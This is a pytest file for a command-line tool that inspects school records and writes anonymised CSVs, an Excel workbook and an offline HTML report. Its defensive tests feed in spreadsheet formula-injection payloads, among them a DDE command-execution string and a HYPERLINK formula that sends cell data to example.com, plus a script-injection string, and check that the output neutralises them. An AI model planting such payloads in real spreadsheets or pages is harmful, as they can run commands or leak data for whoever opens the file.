"""The folder of an inspection: what it holds, what it must not hold, and what leaves it as text."""

from __future__ import annotations

import csv
import json
import math
import tempfile
from html.parser import HTMLParser
from pathlib import Path

import pandas as pd
import pytest
from handed_in import PLAIN, folder
from openpyxl import load_workbook

from experiments import cli
from experiments.files.spreadsheet_text import guarded, is_risky, write_csv

FAMILIES = ("inspect", "template")
EXAMPLE = Path(__file__).resolve().parents[2] / "configs" / "records" / "example"


@pytest.fixture(autouse=True)
def commands(monkeypatch: pytest.MonkeyPatch) -> None:
    """Register the commands that are tested."""
    monkeypatch.setattr(cli, "FAMILIES", FAMILIES)


@pytest.fixture(scope="module")
def output(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """Return the inspection of the worked example."""
    out = tmp_path_factory.mktemp("inspect") / "out"
    with pytest.MonkeyPatch.context() as patch:
        patch.setattr(cli, "FAMILIES", FAMILIES)
        assert cli.main(["inspect", str(EXAMPLE), "--out", str(out)]) == 0
    return out


FILES = {
    "schools.csv",
    "indicators.csv",
    "columns.csv",
    "county.csv",
    "rules.csv",
    "scores.csv",
    "value_added.csv",
    "notes.csv",
    "inspection.xlsx",
    "report.html",
    "manifest.json",
}
FIGURES = {"figures/thresholds.png", "figures/cvs.png", "figures/scores.png", "figures/map.png"}


def test_the_folder_holds_what_its_manifest_lists(output: Path) -> None:
    there = {p.relative_to(output).as_posix() for p in output.rglob("*") if p.is_file()}
    assert there == FILES | FIGURES
    manifest = json.loads((output / "manifest.json").read_text(encoding="utf-8"))
    assert {f["path"] for f in manifest["files"]} == there - {"manifest.json"}
    assert manifest["command"] == "inspect"
    assert set(manifest["data"]["files"]) == {"schools.csv", "teachers.csv", "pupils.csv", "schools.geojson"}
    assert manifest["counted"] == ["register", "post"]


def test_no_teacher_and_no_pupil_can_be_found_in_the_folder(output: Path) -> None:
    text = "".join(
        p.read_text(encoding="utf-8-sig") for p in output.iterdir() if p.suffix in {".csv", ".html", ".json"}
    )
    assert "EX05" in text
    for person in ("T0001", "T0100", "P00001", "P01000"):
        assert person not in text


def test_csv_files_bear_the_mark_excel_needs(output: Path) -> None:
    for file in output.glob("*.csv"):
        assert file.read_bytes().startswith(b"\xef\xbb\xbf"), file.name
        with file.open(encoding="utf-8-sig", newline="") as stream:
            rows = list(csv.reader(stream))
        assert len({len(r) for r in rows}) == 1
        assert len(rows) > 1


def test_the_workbook_says_the_same_as_the_tables(output: Path) -> None:
    workbook = load_workbook(output / "inspection.xlsx")
    assert workbook.sheetnames == [
        "Verdicts", "Schools 2017", "Schools 2017 by post", "Schools 2012", "Schools 2012 by post", "CV", "Shortfall", "Rules",
        "Scores", "Notes",
    ]  # fmt: skip
    table = pd.read_csv(output / "indicators.csv")
    mine = table[(table["regime"] == 2017) & (table["by"] == "register") & (table["id"] == "EX08")]
    row = next(r for r in workbook["Schools 2017"].iter_rows(values_only=True) if r[0] == "EX08")
    assert list(row[4:11]) == pytest.approx(mine["value"].tolist())
    assert not any(c.data_type == "f" for s in workbook for line in s.iter_rows() for c in line)


class Page(HTMLParser):
    """Collects what a page would load, its ids and its words."""

    def __init__(self) -> None:
        super().__init__()
        self.loads: list[str] = []
        self.texts: list[str] = []
        self.tags: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append(tag)
        self.loads += [v or "" for k, v in attrs if k in {"src", "href", "srcset"}]

    def handle_data(self, data: str) -> None:
        self.texts.append(data)


def test_the_page_needs_no_network_and_shows_gaps_with_mean_and_lowest_tenth(output: Path) -> None:
    page = Page()
    page.feed((output / "report.html").read_text(encoding="utf-8"))
    assert all(link.startswith("data:image/png;base64,") for link in page.loads)
    assert len(page.loads) == 2 * len(FIGURES)
    assert "script" not in page.tags
    text = "".join(page.texts)
    for words in (
        "the county does not pass",
        "mean score",
        "mean of the lowest tenth",
        "by post",
        "综合差异系数",
        "nan",
    ):
        assert (words in text) == (words != "nan"), words


def test_running_it_again_gives_the_same_and_replaces_only_its_own(output: Path, tmp_path: Path) -> None:
    again = tmp_path / "again"
    assert cli.main(["inspect", str(EXAMPLE), "--out", str(again)]) == 0
    same = FILES | FIGURES
    for name in sorted(same - {"manifest.json", "inspection.xlsx", "report.html"}):
        assert (again / name).read_bytes() == (output / name).read_bytes(), name
    assert cli.main(["inspect", str(EXAMPLE), "--regime", "2017", "--out", str(again)]) == 0
    assert set(pd.read_csv(again / "county.csv")["regime"]) == {2017}
    (again / "mine.txt").write_text("x")
    assert cli.main(["inspect", str(EXAMPLE), "--out", str(again)]) == 2
    assert (again / "mine.txt").read_text() == "x"


@pytest.mark.parametrize(
    ("words", "said"),
    [
        (("inspect", "nowhere"), "there is no file or folder nowhere"),
        (("inspect", "d", "--regime", "2018"), "there is no regime '2018'; nearest valid name: '2017'"),
        (("inspect", "d", "--year", "1200"), "1200 is out of range; allowed: 1990 to 2200"),
        (("inspect", "d", "--year", "2021"), "--year 2021: the records hold 2023"),
        (("inspect", "bad"), "schools.csv, line 2"),
        (("template", "--lang", "fr"), "--lang = 'fr' is not a language here; allowed: zh, en"),
    ],
)
def test_mistakes_are_said_and_nothing_is_written(
    tmp_path: Path,
    monkeypatch: pytest.MonkeyPatch,
    capsys: pytest.CaptureFixture[str],
    words: tuple[str, ...],
    said: str,
) -> None:
    monkeypatch.chdir(tmp_path)
    folder(tmp_path / "d", {"schools.csv": "id,stage,pupils,year\n1,小学,500,2023\n"})
    folder(tmp_path / "bad", {"schools.csv": "id,stage,pupils\n1,小学,-5\n"})
    before = sorted(p.name for p in tmp_path.rglob("*"))
    assert cli.main(list(words)) == 2
    assert said in capsys.readouterr().err
    assert sorted(p.name for p in tmp_path.rglob("*")) == before


RISKY = ('=HYPERLINK("http://example.com?"&A1,"x")', "=cmd|' /C calc'!A0", "+1+1", "-1+1", "@SUM(A1)", "＝1+1")


def test_texts_like_formulas_leave_as_texts(tmp_path: Path) -> None:
    names = [n.replace('"', '""') for n in RISKY]
    text = "id,name_zh,stage,pupils,group,role\n" + "".join(
        f'{i},"{n}",小学,500,{n[0]}G{i},核心校\n' for i, n in enumerate(names)
    )
    out = tmp_path / "out"
    assert cli.main(["inspect", str(folder(tmp_path / "d", {"schools.csv": text})), "--out", str(out)]) == 0
    with (out / "schools.csv").open(encoding="utf-8-sig", newline="") as stream:
        rows = list(csv.DictReader(stream))
    assert [r["name_zh"] for r in rows[: len(RISKY)]] == ["'" + n for n in RISKY]
    assert [r["group"] for r in rows[: len(RISKY)]] == [f"'{n[0]}G{i}" for i, n in enumerate(RISKY)]
    for file in out.glob("*.csv"):
        with file.open(encoding="utf-8-sig", newline="") as stream:
            for row in csv.reader(stream):
                assert not any(c.startswith(("=", "+", "@", "\t", "\r")) for c in row)
                assert not any(
                    c.startswith("-") and not c[1:].replace(".", "").replace("e-", "").isdigit() for c in row
                ), row
    seen = set()
    for sheet in load_workbook(out / "inspection.xlsx"):
        for cell in (c for line in sheet.iter_rows() for c in line):
            assert cell.data_type != "f"
            if is_risky(cell.value):
                seen.add(cell.value)
                assert cell.quotePrefix
    assert seen == set(RISKY)
    assert "<a " not in (out / "report.html").read_text(encoding="utf-8")


def test_names_cannot_write_into_the_page(tmp_path: Path) -> None:
    name = "<script>alert(1)</script><img src=x onerror=alert(1)>"
    data = folder(tmp_path / "<b>x", {"schools.csv": f"id,name_zh,stage,pupils,{name}\n1,{name},小学,500,1\n"})
    out = tmp_path / "out"
    assert cli.main(["inspect", str(data), "--out", str(out)]) == 0
    page = Page()
    page.feed((out / "report.html").read_text(encoding="utf-8"))
    assert not {"script", "b"} & set(page.tags)
    assert name in "".join(page.texts)
    assert all(link.startswith("data:") for link in page.loads)


def test_no_copy_of_the_data_is_left_or_made_elsewhere(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """Libraries write sheets to temporary files before they pack them: also those lie in the folder that appears."""
    scratch = tmp_path / "scratch"
    scratch.mkdir()
    monkeypatch.setattr(tempfile, "tempdir", str(scratch))
    made: list[str] = []
    whole = tempfile.NamedTemporaryFile

    def watched(*words: object, **options: object) -> object:
        made.append(str(options.get("dir") or tempfile.gettempdir()))
        return whole(*words, **options)  # type: ignore[call-overload]

    monkeypatch.setattr("openpyxl.worksheet._writer.NamedTemporaryFile", watched)
    out = tmp_path / "out"
    assert cli.main(["inspect", str(folder(tmp_path / "d", {"schools.csv": PLAIN})), "--out", str(out)]) == 0
    assert made
    assert all(Path(m).parent == tmp_path and Path(m).name.startswith(".out.partial-") for m in made)
    assert list(scratch.iterdir()) == []
    assert tempfile.gettempdir() == str(scratch)
    assert sorted(p.name for p in tmp_path.iterdir()) == ["d", "out", "scratch"]


def test_a_guarded_text_is_a_text_and_a_number_stays_a_number(tmp_path: Path) -> None:
    assert [guarded(x) for x in ("=1", "a", -1.5, "", "-")] == ["'=1", "a", -1.5, "", "'-"]
    write_csv(pd.DataFrame({"a": ["=1", "b"], "n": [-1.5, math.nan]}), tmp_path / "a.csv")
    assert (tmp_path / "a.csv").read_bytes() == b"\xef\xbb\xbfa,n\r\n'=1,-1.5\r\nb,\r\n"
